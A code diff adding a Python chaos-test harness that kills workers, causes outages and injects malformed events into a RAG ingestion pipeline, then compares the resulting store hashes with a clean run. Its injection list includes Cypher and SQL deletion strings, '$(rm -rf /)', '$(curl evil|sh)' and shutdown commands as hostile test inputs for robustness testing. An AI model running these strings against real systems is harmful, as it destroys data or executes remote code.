@@ -1,0 +1,816 @@
+"""Whole-pipeline chaos: the derived stores converge to a clean run's state whatever fails.
+
+One harness, three entry points: ``tests/chaos/`` (pytest, a smaller history), ``ragstream chaos``
+and ``bench/chaos_report.py`` (2,000 Reuters documents by default). See docs/reliability.md.
+
+A *run* starts its own Tansu broker and its own FalkorDB server (the graph store and the Redis of
+the index, ledgers and cache), publishes a seeded source history, starts the pipeline's workers as
+real subprocesses (embedding, reindex, entity_linking, gcn_refresh), waits until every consumer
+group has committed the end of every topic it reads, and records the end state of each store:
+
+- ``index``: every chunk in the durable index (document, version, position, text hash, model,
+  sha256 of the vector bytes) and each document's applied version;
+- ``replica``: the dense (usearch) keys and BM25 (tantivy) chunk ids a reader rebuilds from the
+  change log, which must hold each chunk exactly once;
+- ``graph``: documents (version, deleted, entities, co-occurring set), MENTIONS (count, spans),
+  entity ids and CO_OCCURS weights, node and edge counts;
+- ``dirty``: the GCN refresh's dirty-entity set.
+
+Each store is hashed (sha256 of its canonical JSON) and compared with the clean run's.
+
+Scenarios: ``clean``; ``chaos`` (seeded SIGKILLs of random workers at random points of progress,
+the graph store stopped for ``outage_s``, the embedding cache flushed, one worker SIGSTOPped past
+its session timeout then SIGCONTed); ``hostile`` (invalid events from hypothesis strategies and a
+fixed corpus of nasties, every event published twice, older versions re-sent after newer ones).
+"""
+
+from __future__ import annotations
+
+import asyncio
+import hashlib
+import json
+import os
+import random
+import shutil
+import signal
+import time
+import uuid
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import redis
+
+from producers import reuters
+from producers.events import document_deleted, document_upserted
+from producers.publisher import encode
+from ragstream.config import Settings
+from ragstream.stack import FalkorDB, ManagedProcess, Tansu, worker_process
+from schemas.envelope import Envelope
+
+PIPELINE = ("embedding", "reindex", "entity_linking", "gcn_refresh")
+DOCUMENT_GROUPS = ("embedding", "entity_linking")  # both dead-letter every invalid document event
+PARTITIONS = 4
+BIG_MESSAGE_BYTES = 16 * 1024 * 1024
+
+
+# the source history ----------------------------------------------------------------------------
+
+
+@dataclass
+class History:
+    events: list[Envelope]
+    final: dict[str, tuple[int, bool]]  # doc id -> (version, deleted) after the whole history
+
+    @property
+    def live(self) -> int:
+        return sum(1 for _, deleted in self.final.values() if not deleted)
+
+
+def history(docs: int, seed: int, data: Path | None = None) -> History:
+    """``docs`` Reuters articles at version 1; a seeded 15% rewritten at version 2 (another
+    article's text under the old title), and a seeded 8% deleted (at the next version)."""
+    rng = random.Random(seed)
+    articles = list(reuters.load(data, limit=docs + docs // 5 + 10))
+    base, spare = articles[:docs], articles[docs:]
+    events = [document_upserted(d.doc_id, d.text, version=1, title=d.title) for d in base]
+    final = {d.doc_id: (1, False) for d in base}
+    for d in rng.sample(base, max(1, docs * 15 // 100)):
+        other = spare[rng.randrange(len(spare))]
+        events.append(document_upserted(d.doc_id, other.text, version=2, title=d.title))
+        final[d.doc_id] = (2, False)
+    for d in rng.sample(base, max(1, docs * 8 // 100)):
+        version = final[d.doc_id][0] + 1
+        events.append(document_deleted(d.doc_id, version=version))
+        final[d.doc_id] = (version, True)
+    return History(events, final)
+
+
+# hostile input ---------------------------------------------------------------------------------
+
+INJECTIONS = ["x'}) DETACH DELETE n //", "`; MATCH (n) DETACH DELETE n", "$(rm -rf /)",
+              "'; DROP TABLE documents;--", "{{7*7}}", "\"; CALL db.drop() //",
+              "`id`}) MERGE (x:Pwned) //", "$(curl evil|sh)", "; shutdown -h now", "|| reboot"]
+
+
+def _good(doc: str = "hostile") -> dict:
+    from datetime import UTC, datetime
+
+    when = datetime(2026, 1, 1, tzinfo=UTC)  # fixed, so the corpus is the same bytes every time
+    return json.loads(encode(document_upserted(doc, "fine text", version=1, time=when)).value)
+
+
+def nasties() -> list[tuple[str, bytes]]:
+    """The fixed corpus: (kind, bytes), each invalid for documents.v1."""
+    g = _good()
+    out: list[tuple[str, bytes]] = []
+    raw = json.dumps(g).encode()
+    out += [("truncated", raw[:n]) for n in (1, 10, len(raw) // 2, len(raw) - 1)]
+    out += [("deep_nesting", b'{"data":' * 100_000 + b"{}" + b"}" * 100_000),
+            ("deep_nesting", b"[" * 200_000)]
+    out += [("oversized_10mb", json.dumps(g | {"data": g["data"] | {"text": "y" * 10_000_000}})
+             .encode()),
+            ("oversized_10mb", b"\xff" * 10_000_000)]
+    out += [("invalid_utf8", b"\xff\xfe" + raw), ("invalid_utf8", raw.replace(b"fine", b"f\xc3\x28e")),
+            ("invalid_utf8", b"\xed\xa0\x80" + raw)]
+    out += [("nul", json.dumps(g | {"subject": "a\u0000b"}).encode()),
+            ("nul", json.dumps(g | {"data": g["data"] | {"doc_id": "\u0000"}}).encode()),
+            ("nul", b"\x00" * 64), ("nul", raw.replace(b"{", b"\x00{", 1)),
+            # otherwise valid documents: a NUL next to an entity broke the graph write alone
+            ("nul", json.dumps(g | {"data": g["data"] | {
+                "text": "Acme Corp\u0000 said on Monday it bought Widget Inc of Paris."}}).encode()),
+            ("nul", json.dumps(g | {"data": g["data"] | {"title": "IBM\u0000 results"}}).encode())]
+    for s in INJECTIONS:
+        out += [("injection", json.dumps(g | {"type": s}).encode()),
+                ("injection", json.dumps(g | {"data": g["data"] | {"version": s}}).encode()),
+                ("injection", json.dumps(g | {"subject": s + "\n"}).encode())]
+    out += [("wrong_version", json.dumps(g | {"schemaversion": v}).encode())
+            for v in (2, 99, 0, -1, "v1", None, 2**70)]
+    out += [("wrong_version", json.dumps(g | {"specversion": "0.3"}).encode())]
+    out += [("bad_field", json.dumps(g | {"data": g["data"] | {"version": -1}}).encode()),
+            ("bad_field", json.dumps(g | {"data": g["data"] | {"doc_id": "d" * 600}}).encode()),
+            ("bad_field", json.dumps({k: v for k, v in g.items() if k != "data"}).encode()),
+            ("bad_field", json.dumps(g | {"type": "ragstream.chunk.embedded"}).encode()),
+            ("bad_field", json.dumps(g | {"data": g["data"] | {"metadata": {"a": [1]}}}).encode()),
+            ("not_an_object", b"[]"), ("not_an_object", b"null"), ("not_an_object", b'"x"'),
+            ("empty", b"")]
+    return out
+
+
+def generated(count: int, seed: int) -> list[tuple[str, bytes]]:
+    """``count`` invalid events drawn by hypothesis strategies, reproducible from ``seed``."""
+    from hypothesis import HealthCheck, Phase, given, seed as hseed, settings as hsettings
+    from hypothesis import strategies as st
+
+    g = _good()
+    text = st.text(max_size=60)
+    junk = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False),
+                     text, st.lists(st.integers(), max_size=3))
+    strategy = st.one_of(
+        st.builds(lambda b: ("random_bytes", b"\xff" + b), st.binary(max_size=200)),
+        st.builds(lambda n: ("truncated", json.dumps(g).encode()[:n]),
+                  st.integers(0, len(json.dumps(g)) - 1)),
+        st.builds(lambda k, v: ("wrong_field", json.dumps(g | {k: v}).encode()),
+                  st.sampled_from(["subject", "type", "schemaversion", "data", "specversion"]),
+                  junk.filter(lambda v: v != 1)),
+        st.builds(lambda k, v: ("wrong_payload", json.dumps(g | {"data": g["data"] | {k: v}})
+                                .encode()),
+                  st.sampled_from(["doc_id", "version", "text"]),
+                  st.one_of(st.none(), st.lists(text, max_size=2), st.integers(max_value=-1),
+                            st.dictionaries(text, text, max_size=2))),
+        st.builds(lambda t: ("unknown_type", json.dumps(g | {"type": t}).encode()),
+                  text.filter(lambda t: t not in ("ragstream.document.upserted",
+                                                  "ragstream.document.deleted"))),
+        st.builds(lambda v: ("wrong_version", json.dumps(g | {"schemaversion": v}).encode()),
+                  st.integers().filter(lambda v: v != 1)),
+        st.builds(lambda v: ("not_an_object", json.dumps(v).encode()),
+                  st.one_of(st.lists(junk, max_size=4), text, st.integers())),
+    )
+    drawn: list[tuple[str, bytes]] = []
+    if count <= 0:
+        return drawn
+    count_drawn = count + count // 5 + 10  # room for the draws that turn out valid
+
+    @hsettings(max_examples=count_drawn, database=None, deadline=None, phases=[Phase.generate],
+               suppress_health_check=list(HealthCheck))
+    @hseed(seed)
+    @given(strategy)
+    def gather(item):
+        drawn.append(item)
+
+    gather()
+    drawn = [d for d in drawn if not is_valid(d[1])]  # a draw can happen to be a valid event
+    while len(drawn) < count:  # hypothesis may stop early once its space looks exhausted
+        drawn.append(drawn[len(drawn) % max(len(drawn), 1)])
+    return drawn[:count]
+
+
+def is_valid(raw: bytes) -> bool:
+    """Whether documents.v1 would accept ``raw`` (with the default size limit)."""
+    from schemas.catalogue import DecodeError, decode, topic
+
+    try:
+        decode(topic("documents.v1"), raw, Settings.model_fields["max_event_bytes"].default)
+        return True
+    except DecodeError:
+        return False
+
+
+def invalid_events(count: int, seed: int) -> list[tuple[str, bytes]]:
+    fixed = nasties()
+    return fixed[:count] + generated(max(count - len(fixed), 0), seed)
+
+
+# a run -----------------------------------------------------------------------------------------
+
+
+@dataclass
+class ChaosPlan:
+    kills: int = 10
+    outage_s: float = 20.0
+    flush_cache: bool = True
+    stop_worker: bool = True
+
+
+@dataclass
+class RunResult:
+    name: str
+    events: int = 0
+    invalid: int = 0
+    duplicates: int = 0
+    reordered: int = 0
+    kills: int = 0
+    kill_log: list[str] = field(default_factory=list)
+    outages: int = 0
+    cache_flushes: int = 0
+    flushed_vectors: int = 0
+    stops: int = 0
+    unexpected_restarts: int = 0
+    dlq_expected: int = 0
+    dlq_actual: int = 0
+    dlq_records: int = 0
+    dlq_without_reason: int = 0
+    seconds: float = 0.0
+    state: dict[str, Any] = field(default_factory=dict)
+    hashes: dict[str, str] = field(default_factory=dict)
+
+
+def _settings(env: dict[str, str]) -> Settings:
+    return Settings(**{k.removeprefix("RAGSTREAM_").lower(): v for k, v in env.items()
+                       if k.startswith("RAGSTREAM_") and not k.startswith(("RAGSTREAM_KG_",
+                                                                            "RAGSTREAM_GCN_"))})
+
+
+class Run:
+    """One pipeline on its own broker and store, in ``root / name``."""
+
+    def __init__(self, name: str, root: Path, seed: int, session_timeout_ms: int = 6000,
+                 log=print):
+        self.name, self.seed, self.log = name, seed, log
+        self.dir = root / name
+        shutil.rmtree(self.dir, ignore_errors=True)
+        self.dir.mkdir(parents=True)
+        self.rng = random.Random(f"{seed}:{name}")
+        self.session_timeout_ms = session_timeout_ms
+        self.result = RunResult(name)
+        self.workers: dict[str, ManagedProcess] = {}
+        self._expected_exit: set[str] = set()
+        self._stopped: str | None = None
+
+    # services ----------------------------------------------------------------------------------
+
+    def start_services(self) -> None:
+        self.tansu = Tansu(self.dir)
+        self.tansu.start()
+        self.falkordb = FalkorDB(self.dir)
+        self.falkordb.start()
+        prefix = f"c{uuid.uuid4().hex[:6]}"
+        self.env = {
+            "RAGSTREAM_KAFKA_BOOTSTRAP": self.tansu.bootstrap,
+            "RAGSTREAM_KAFKA_IDEMPOTENCE": "false",
+            "RAGSTREAM_REDIS_URL": self.falkordb.url,
+            "RAGSTREAM_DATA_DIR": str(self.dir / "data"),
+            "RAGSTREAM_GROUP_PREFIX": prefix,
+            "RAGSTREAM_TOPIC_PARTITIONS": str(PARTITIONS),
+            "RAGSTREAM_SESSION_TIMEOUT_MS": str(self.session_timeout_ms),
+            "RAGSTREAM_HEARTBEAT_INTERVAL_MS": "500",
+            "RAGSTREAM_BATCH_TIMEOUT_MS": "100",
+            "RAGSTREAM_BATCH_MAX_RECORDS": "16",
+            "RAGSTREAM_RETRY_BACKOFF_S": "0.05",
+            "RAGSTREAM_MAX_BACKOFF_S": "2",
+            # kept orphans record which intermediate versions a run happened to apply, which
+            # depends on batching: the end state is a function of the history only when pruned
+            "RAGSTREAM_KG_ORPHANS": "prune",
+            "RAGSTREAM_GCN_TRIGGER_DIRTY": "0",  # no Celery worker here: gather the set only
+            "RAGSTREAM_LOG_LEVEL": "INFO",
+            "HF_HUB_OFFLINE": "1",
+            "TRANSFORMERS_OFFLINE": "1",
+        }
+        self.settings = _settings(self.env)
+        from ragstream.graph import KgSettings
+
+        self.graph_name = KgSettings(orphans="prune").graph_name(self.settings)
+
+    def stop_services(self) -> None:
+        for w in self.workers.values():
+            if w.alive():
+                os.kill(w.pid, signal.SIGCONT)
+        for w in self.workers.values():
+            w.stop(20)
+        self.falkordb.stop()
+        self.tansu.process.kill()
+        self.tansu.process.wait()
+
+    async def create_topics(self) -> None:
+        from ragstream.transport.kafka import ensure_topics
+        from schemas.catalogue import all_topic_names
+
+        await ensure_topics(self.settings, all_topic_names(), PARTITIONS)
+
+    async def send(self, messages: list[tuple[str, bytes | None, bytes]]) -> None:
+        """(topic, key, value) as they are, in order; big messages allowed (hostile input)."""
+        import aiokafka
+
+        from ragstream.transport.kafka import connection_options
+
+        producer = aiokafka.AIOKafkaProducer(**connection_options(self.settings), acks="all",
+                                             linger_ms=5, max_request_size=BIG_MESSAGE_BYTES)
+        await producer.start()
+        try:
+            futures = [await producer.send(t, v, key=k) for t, k, v in messages]
+            await asyncio.gather(*futures)
+        finally:
+            await producer.stop()
+
+    # workers -----------------------------------------------------------------------------------
+
+    def start_workers(self) -> None:
+        for name in PIPELINE:
+            self._start(name)
+
+    def _start(self, name: str) -> None:
+        n = sum(1 for k in self.result.kill_log if k.startswith(name))
+        proc = worker_process(name, self.env, self.dir, log_name=f"{name}-{n}")
+        proc.start()
+        self.workers[name] = proc
+
+    def supervise(self) -> None:
+        """Restart dead workers; a death the harness did not cause is counted."""
+        for name, proc in self.workers.items():
+            if not proc.alive():
+                if name in self._expected_exit:
+                    self._expected_exit.discard(name)
+                else:
+                    if now_dead_since := getattr(proc, "_dead_since", None):
+                        if time.monotonic() - now_dead_since < 1.0:
+                            continue  # a little backoff, as a supervisor would
+                    else:
+                        proc._dead_since = time.monotonic()
+                        continue
+                    self.result.unexpected_restarts += 1
+                    self.log(f"[{self.name}] {name} died by itself ({proc.process.returncode}):\n"
+                             f"{proc.tail(30)}")
+                self._start(name)
+
+    def kill(self, name: str) -> None:
+        proc = self.workers[name]
+        if proc.alive():
+            self._expected_exit.add(name)
+            proc.signal(signal.SIGKILL)
+            proc.process.wait()
+        self.result.kills += 1
+        self.result.kill_log.append(f"{name}@{time.monotonic() - self._t0:.1f}s")
+        self._start(name)
+        self._expected_exit.discard(name)
+
+    # progress and convergence -------------------------------------------------------------------
+
+    async def group_lag(self) -> dict[str, tuple[int, int]]:
+        """(committed, end) of every pipeline group, summed over the topics it reads."""
+        import aiokafka
+        from aiokafka.admin import AIOKafkaAdminClient
+        from aiokafka.structs import TopicPartition
+
+        from ragstream.transport.kafka import connection_options
+        from workers import load
+
+        opts = connection_options(self.settings)
+        admin = AIOKafkaAdminClient(**opts)
+        consumer = aiokafka.AIOKafkaConsumer(**opts, group_id=None)
+        await admin.start()
+        await consumer.start()
+        try:
+            out = {}
+            for name in PIPELINE:
+                committed = end = 0
+                tps = [TopicPartition(t, p) for t in load(name).consumes for p in range(PARTITIONS)]
+                ends = await consumer.end_offsets(tps)
+                offsets = await admin.list_consumer_group_offsets(self.settings.group_id(name),
+                                                                  partitions=tps)
+                for tp in tps:
+                    e = ends.get(tp, 0)
+                    c = offsets[tp].offset if tp in offsets and offsets[tp].offset >= 0 else 0
+                    committed += min(c, e)
+                    end += e
+                out[name] = (committed, end)
+            return out
+        finally:
+            await consumer.stop()
+            await admin.close()
+
+    async def progress(self) -> dict[str, float]:
+        """Each group's committed fraction of its input, and their mean under "all"."""
+        try:
+            lag = await asyncio.wait_for(self.group_lag(), 20)
+        except Exception:  # the broker is busy; try again on the next tick
+            return {"all": -1.0}
+        # a group with no input yet has made no progress (not all of it), or early faults
+        # would bunch up before anything flows
+        out = {name: (c / e if e else 0.0) for name, (c, e) in lag.items()}
+        out["all"] = sum(out.values()) / len(out)
+        out["caught_up"] = float(all(c >= e for c, e in lag.values()))
+        return out
+
+    # the run -----------------------------------------------------------------------------------
+
+    async def execute(self, messages: list[tuple[str, bytes | None, bytes]],
+                      plan: ChaosPlan | None, timeout_s: float) -> RunResult:
+        self._t0 = time.monotonic()
+        self.start_services()
+        try:
+            await self.create_topics()
+            await self.send(messages)
+            self.log(f"[{self.name}] published {len(messages)} messages")
+            self.start_workers()
+            await self._drive(plan, timeout_s)
+            self.result.seconds = time.monotonic() - self._t0
+            self.result.state = await asyncio.to_thread(capture_state, self)
+            self.result.hashes = {k: digest(v) for k, v in self.result.state.items()
+                                  if k in STORES}
+            await self._count_dead_letters()
+        finally:
+            self.stop_services()
+        return self.result
+
+    async def _drive(self, plan: ChaosPlan | None, timeout_s: float) -> None:
+        actions = self._schedule(plan) if plan else []
+        deadline = time.monotonic() + timeout_s
+        done_at: float | None = None
+        outage_until: float | None = None
+        resume_at: float | None = None
+        last = 0.0
+        while True:
+            now = time.monotonic()
+            if now > deadline:
+                raise TimeoutError(f"{self.name}: no convergence within {timeout_s}s; "
+                                   f"progress {await self.progress()}, pending {actions}")
+            if outage_until is not None and now >= outage_until:
+                self.falkordb = FalkorDB(self.dir, port=self.falkordb.port)
+                self.falkordb.start(timeout=900)
+                self.log(f"[{self.name}] graph store back")
+                outage_until = None
+            if resume_at is not None and now >= resume_at:
+                os.kill(self.workers[self._stopped].pid, signal.SIGCONT)
+                self.log(f"[{self.name}] SIGCONT {self._stopped}")
+                self._stopped, resume_at = None, None
+            if self._stopped is None:
+                self.supervise()
+            prog = await self.progress() if outage_until is None else {"all": -1.0}
+            p = prog["all"]
+            # the cache flush waits for the embedding worker itself to be under way
+            due = actions and (prog.get("embedding", -1.0) if actions[0][1] == "flush"
+                               else p) >= actions[0][0]
+            while due and now - last >= 1.5 and outage_until is None:
+                _, kind, arg = actions.pop(0)
+                last = now
+                if kind == "kill":
+                    if arg == self._stopped:
+                        arg = next(n for n in PIPELINE if n != self._stopped)
+                    self.kill(arg)
+                    self.log(f"[{self.name}] SIGKILL {arg} at progress {p:.2f}")
+                elif kind == "outage":
+                    self.falkordb.stop()
+                    outage_until = now + plan.outage_s
+                    self.result.outages += 1
+                    self.log(f"[{self.name}] graph store stopped for {plan.outage_s}s")
+                elif kind == "flush":
+                    removed = flush_embedding_cache(self.falkordb.port, self.settings.group_prefix)
+                    self.result.cache_flushes += 1
+                    self.result.flushed_vectors += removed
+                    self.log(f"[{self.name}] embedding cache flushed ({removed} vectors)")
+                elif kind == "stop":
+                    self._stopped = arg
+                    os.kill(self.workers[arg].pid, signal.SIGSTOP)
+                    resume_at = now + self.session_timeout_ms / 1000 + 5
+                    self.result.stops += 1
+                    self.log(f"[{self.name}] SIGSTOP {arg} for {resume_at - now:.0f}s")
+                break
+            settled = (not actions and outage_until is None and resume_at is None
+                       and prog.get("caught_up") == 1.0)
+            if settled:
+                if done_at is None:
+                    done_at = now
+                elif now - done_at >= 3.0:  # still caught up a few seconds later: converged
+                    return
+            else:
+                done_at = None
+            await asyncio.sleep(0.5)
+
+    def _schedule(self, plan: ChaosPlan) -> list[tuple[float, str, str]]:
+        """Seeded: at which fraction of committed progress each fault strikes."""
+        rng = self.rng
+        actions = [(rng.uniform(0.02, 0.9), "kill", rng.choice(PIPELINE))
+                   for _ in range(plan.kills)]
+        if plan.outage_s:
+            actions.append((rng.uniform(0.25, 0.45), "outage", ""))
+        if plan.flush_cache:
+            actions.append((rng.uniform(0.3, 0.7), "flush", ""))
+        if plan.stop_worker:
+            actions.append((rng.uniform(0.6, 0.75), "stop",
+                            rng.choice(("embedding", "entity_linking"))))
+        return sorted(actions)
+
+    async def _count_dead_letters(self) -> None:
+        """Dead letters, distinct by (worker, original topic, partition, offset): a replay after
+        a kill may dead-letter an event twice, which is at-least-once, not a second failure."""
+        import aiokafka
+
+        from ragstream.transport.kafka import connection_options
+        from schemas.catalogue import TOPICS
+
+        consumer = aiokafka.AIOKafkaConsumer(
+            *[s.dlq for s in TOPICS.values()], **connection_options(self.settings),
+            group_id=None, auto_offset_reset="earliest", enable_auto_commit=False,
+            max_partition_fetch_bytes=BIG_MESSAGE_BYTES, fetch_max_bytes=BIG_MESSAGE_BYTES * 2)
+        await consumer.start()
+        seen, records, unreasoned = set(), 0, 0
+        try:
+            idle_until = time.monotonic() + 3
+            while time.monotonic() < idle_until:
+                for msgs in (await consumer.getmany(timeout_ms=500)).values():
+                    idle_until = time.monotonic() + 3
+                    for m in msgs:
+                        h = dict(m.headers or ())
+                        records += 1
+                        if not h.get("x-error-reason") or not h.get("x-error-message"):
+                            unreasoned += 1
+                        seen.add((h.get("x-worker"), h.get("x-original-topic"),
+                                  h.get("x-original-partition"), h.get("x-original-offset")))
+        finally:
+            await consumer.stop()
+        self.result.dlq_actual, self.result.dlq_records = len(seen), records
+        self.result.dlq_without_reason = unreasoned
+
+
+def flush_embedding_cache(port: int, prefix: str) -> int:
+    """Delete every cached embedding vector: a cache, not a store of record."""
+    client = redis.Redis(port=port, socket_timeout=10)
+    try:
+        removed = 0
+        batch = []
+        for key in client.scan_iter(match=f"{prefix}:embedding:cache:*", count=1000):
+            batch.append(key)
+            if len(batch) >= 500:
+                removed += client.delete(*batch)
+                batch = []
+        if batch:
+            removed += client.delete(*batch)
+        return removed
+    finally:
+        client.close()
+
+
+# end state -------------------------------------------------------------------------------------
+
+# The stores of record, compared hash by hash. The GCN dirty set is a work queue, not a store of
+# record: which intermediate versions a run applied (and so which entities it marked) depends on
+# how batches fell, in a clean run too. It must hold every entity of the final graph.
+STORES = ("index", "replica", "graph")
+
+
+def digest(value: Any) -> str:
+    return hashlib.sha256(json.dumps(value, sort_keys=True, default=str).encode()).hexdigest()
+
+
+def capture_state(run: Run) -> dict[str, Any]:
+    prefix = run.settings.group_prefix
+    client = redis.Redis(port=run.falkordb.port, socket_timeout=30)
+    try:
+        chunk_keys = sorted(client.scan_iter(match=f"{prefix}:index:chunk:*", count=1000))
+        start = len(f"{prefix}:index:chunk:")
+        pipe = client.pipeline(transaction=False)
+        for k in chunk_keys:
+            pipe.hmget(k, "doc_id", "doc_version", "position", "text_hash", "model_id", "vector")
+        chunks = {}
+        for k, (doc, ver, pos, th, model, vec) in zip(chunk_keys, pipe.execute(), strict=True):
+            chunks[k.decode()[start:]] = [doc.decode(), int(ver), int(pos), th.decode(),
+                                          model.decode(), hashlib.sha256(vec).hexdigest()]
+        doc_keys = sorted(client.scan_iter(match=f"{prefix}:index:doc:*", count=1000))
+        start = len(f"{prefix}:index:doc:")
+        pipe = client.pipeline(transaction=False)
+        for k in doc_keys:
+            pipe.hget(k, "version")
+        doc_versions = {k.decode()[start:]: int(v) for k, v in zip(doc_keys, pipe.execute(),
+                                                                    strict=True)}
+        dirty = sorted(m.decode() for m in client.smembers(f"{run.graph_name}:gcn:dirty"))
+    finally:
+        client.close()
+    return {"index": {"chunks": chunks, "doc_versions": doc_versions},
+            "replica": replica_state(run.settings), "graph": graph_state(run), "dirty": dirty}
+
+
+def replica_state(settings: Settings) -> dict[str, Any]:
+    """What a reader rebuilds from the change log: dense keys and BM25 ids, duplicates counted."""
+    import tantivy
+
+    from ragstream.index.replica import IndexReplica
+    from ragstream.index.segments import chunk_key
+
+    replica = IndexReplica(settings)
+    try:
+        state = replica.refresh()
+        sparse = state.sparse._index
+        searcher = sparse.searcher()
+        hits = searcher.search(tantivy.Query.all_query(), max(searcher.num_docs, 1)).hits
+        bm25 = [searcher.doc(address)["chunk_id"][0] for _, address in hits]
+        dense = state.dense._index
+        dense_keys = sorted(int(k) for k in dense.keys) if dense is not None else []
+        ids = sorted(state.chunks)
+        return {"chunk_ids": ids, "bm25_ids": sorted(set(bm25)),
+                "bm25_duplicates": len(bm25) - len(set(bm25)),
+                "dense_keys_match": dense_keys == sorted(chunk_key(c) for c in ids),
+                "dense_duplicates": len(dense_keys) - len(set(dense_keys))}
+    finally:
+        replica.close()
+
+
+def graph_state(run: Run) -> dict[str, Any]:
+    from falkordb import FalkorDB as Client
+
+    graph = Client(host="127.0.0.1", port=run.falkordb.port).select_graph(run.graph_name)
+
+    def q(cypher: str) -> list:
+        return graph.ro_query(cypher).result_set
+
+    docs = [[d, v, bool(x), sorted(e or []), sorted(c or [])] for d, v, x, e, c in q(
+        "MATCH (d:Document) RETURN d.id, d.version, d.deleted, d.entities, d.cooccurring "
+        "ORDER BY d.id")]
+    mentions = [[d, e, n, sorted(s or [])] for d, e, n, s in q(
+        "MATCH (d:Document)-[m:MENTIONS]->(e:Entity) RETURN d.id, e.id, m.count, m.spans "
+        "ORDER BY d.id, e.id")]
+    cooccurs = [list(r) for r in q("MATCH (a:Entity)-[c:CO_OCCURS]->(b:Entity) "
+                                   "RETURN a.id, b.id, c.weight ORDER BY a.id, b.id")]
+    entities = [r[0] for r in q("MATCH (e:Entity) RETURN e.id ORDER BY e.id")]
+    nodes = dict(q("MATCH (n) RETURN labels(n)[0], count(n)"))
+    edges = {t: [n, w] for t, n, w in q(
+        "MATCH ()-[r]->() RETURN type(r), count(r), sum(coalesce(r.weight, r.count, 0))")}
+    pair_dups = sum(n - 1 for (n,) in q(
+        "MATCH (a)-[r]->(b) WITH a, b, type(r) AS t, count(r) AS n WHERE n > 1 RETURN n"))
+    node_dups = sum(n - 1 for (n,) in q(
+        "MATCH (n) WITH labels(n)[0] AS l, n.id AS id, count(n) AS c WHERE c > 1 RETURN c"))
+    return {"documents": docs, "mentions": mentions, "cooccurs": cooccurs, "entities": entities,
+            "nodes": nodes, "edges": edges, "duplicate_edges": pair_dups,
+            "duplicate_nodes": node_dups}
+
+
+# comparison ------------------------------------------------------------------------------------
+
+
+@dataclass
+class Comparison:
+    equal: dict[str, bool]
+    lost: int
+    duplicated: int
+    wrong_version: int
+    details: list[str]
+
+    @property
+    def state_equal(self) -> bool:
+        return all(self.equal.values())
+
+
+def compare(clean: RunResult, other: RunResult, final: dict[str, tuple[int, bool]]) -> Comparison:
+    a, b = clean.state, other.state
+    equal = {s: clean.hashes.get(s) == other.hashes.get(s) for s in STORES}
+    details = []
+    ca, cb = a["index"]["chunks"], b["index"]["chunks"]
+    lost_chunks = set(ca) - set(cb)
+    extra_chunks = set(cb) - set(ca)
+    changed = [c for c in set(ca) & set(cb) if ca[c] != cb[c]]
+    ma = {(d, e) for d, e, *_ in a["graph"]["mentions"]}
+    mb = {(d, e) for d, e, *_ in b["graph"]["mentions"]}
+    graph_docs = {x[0]: x[1:3] for x in b["graph"]["documents"]}
+    wrong = [d for d, (v, deleted) in final.items()
+             if b["index"]["doc_versions"].get(d) != v or graph_docs.get(d) != [v, deleted]]
+    rb = b["replica"]
+    duplicated = (len(extra_chunks) + len(mb - ma) + b["graph"]["duplicate_edges"]
+                  + b["graph"]["duplicate_nodes"] + rb["bm25_duplicates"]
+                  + rb["dense_duplicates"])
+    lost = len(lost_chunks) + len(ma - mb) + len(set(rb["chunk_ids"]) ^ set(rb["bm25_ids"]))
+    for store in STORES:
+        if not equal[store]:
+            details.append(f"{store}: hash {other.hashes.get(store, '')[:12]} != clean "
+                           f"{clean.hashes.get(store, '')[:12]}")
+    if lost_chunks or extra_chunks or changed:
+        details.append(f"index chunks: lost {sorted(lost_chunks)[:5]}, extra "
+                       f"{sorted(extra_chunks)[:5]}, changed {sorted(changed)[:5]}")
+    for part in ("documents", "mentions", "cooccurs", "entities"):
+        if a["graph"][part] != b["graph"][part]:
+            sa = {json.dumps(x) for x in a["graph"][part]}
+            sb = {json.dumps(x) for x in b["graph"][part]}
+            details.append(f"graph {part}: missing {sorted(sa - sb)[:3]}, extra "
+                           f"{sorted(sb - sa)[:3]}")
+    if not rb["dense_keys_match"]:
+        details.append("replica: dense keys differ from the chunk ids")
+    # every entity in the graph was touched by some change and no refresh ran: all are dirty
+    missing_dirty = set(b["graph"]["entities"]) - set(b["dirty"])
+    lost += len(missing_dirty)
+    if missing_dirty:
+        details.append(f"dirty set misses graph entities {sorted(missing_dirty)[:5]}")
+    if wrong:
+        details.append(f"documents not at their final version: {wrong[:5]}")
+    return Comparison(equal, lost, duplicated, len(wrong), details)
+
+
+# scenarios -------------------------------------------------------------------------------------
+
+
+def clean_messages(h: History) -> list[tuple[str, bytes | None, bytes]]:
+    return [(m.topic, m.key, m.value) for m in map(encode, h.events)]
+
+
+def hostile_messages(h: History, invalid: int, seed: int, result: RunResult
+                     ) -> list[tuple[str, bytes | None, bytes]]:
+    """The history with ``invalid`` bad events mixed in, every valid event sent twice, and the
+    older versions of every changed document sent again after the newer ones."""
+    rng = random.Random(f"{seed}:hostile")
+    valid = clean_messages(h)
+    bad = [("documents.v1", f"hostile-{i}".encode(), raw)
+           for i, (_, raw) in enumerate(invalid_events(invalid, seed))]
+    stream = valid + valid  # the second copy: every event id twice
+    changed = {d for d, (v, _) in h.final.items() if v > 1}
+    stale = [m for m, e in zip(valid, h.events, strict=True)
+             if e.subject in changed and e.data["version"] < h.final[e.subject][0]]
+    stream += stale
+    for item in bad:
+        stream.insert(rng.randrange(len(stream) + 1), item)
+    result.invalid, result.duplicates, result.reordered = len(bad), len(valid), len(stale)
+    result.dlq_expected = len(bad) * len(DOCUMENT_GROUPS)
+    return stream
+
+
+@dataclass
+class Report:
+    docs: int
+    seed: int
+    runs: list[RunResult]
+    comparisons: dict[str, Comparison]
+
+    def rows(self) -> list[dict[str, Any]]:
+        out = []
+        for r in self.runs:
+            c = self.comparisons.get(r.name)
+            out.append({"run": r.name, "events": r.events, "kills": r.kills,
+                        "outages": r.outages + r.cache_flushes + r.stops,
+                        "invalid": r.invalid, "dlq": r.dlq_actual,
+                        "dlq_expected": r.dlq_expected,
+                        "lost": c.lost if c else 0, "duplicated": c.duplicated if c else 0,
+                        "state_equal": c.state_equal if c else True,
+                        "restarts_by_input": r.unexpected_restarts, "seconds": round(r.seconds)})
+        return out
+
+    def summary(self) -> dict[str, Any]:
+        cs = list(self.comparisons.values())
+        return {"lost": sum(c.lost for c in cs), "duplicated": sum(c.duplicated for c in cs),
+                "dlq_expected": sum(r.dlq_expected for r in self.runs),
+                "dlq_actual": sum(r.dlq_actual for r in self.runs),
